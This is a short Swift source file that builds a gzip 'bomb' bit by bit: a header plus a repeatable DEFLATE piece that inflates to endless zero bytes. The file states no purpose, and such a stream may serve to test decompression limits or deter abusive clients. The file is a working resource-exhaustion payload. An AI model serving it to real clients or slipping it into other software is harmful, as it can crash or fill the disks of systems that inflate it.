/// Gzip that unpacks to zeros without end, twenty thousand bytes for each hundred: made bit by bit,
/// so that no library is needed.
public enum GzipBomb {
  /// What it begins with: gzip's header and the first two bytes of the data.
  public static let start: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + data[..<2]
  /// What follows, over and over; each unpacks to more than eight million bytes.
  public static let piece: [UInt8] = (0..<4096).flatMap { _ in data[2..<15] }

  /// A block with fixed codes (RFC 1951 §3.2.6): a zero, and then copies of the last byte, 258 at a
  /// time. Eight of them are 13 bytes, so the bits repeat from the third byte on.
  private static let data: [UInt8] = {
    // Not the last block, fixed codes: 0, then 01 with its low bit first.
    var bits: [UInt8] = [0, 1, 0]
    // The literal 0.
    bits += [0, 0, 1, 1, 0, 0, 0, 0]
    for _ in 0..<16 {
      // The length 258, then the distance 1.
      bits += [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
    }
    return stride(from: 0, to: bits.count - 7, by: 8).map { start in
      (0..<8).reduce(0) { $0 | bits[start + $1] << UInt8($1) }
    }
  }()
}
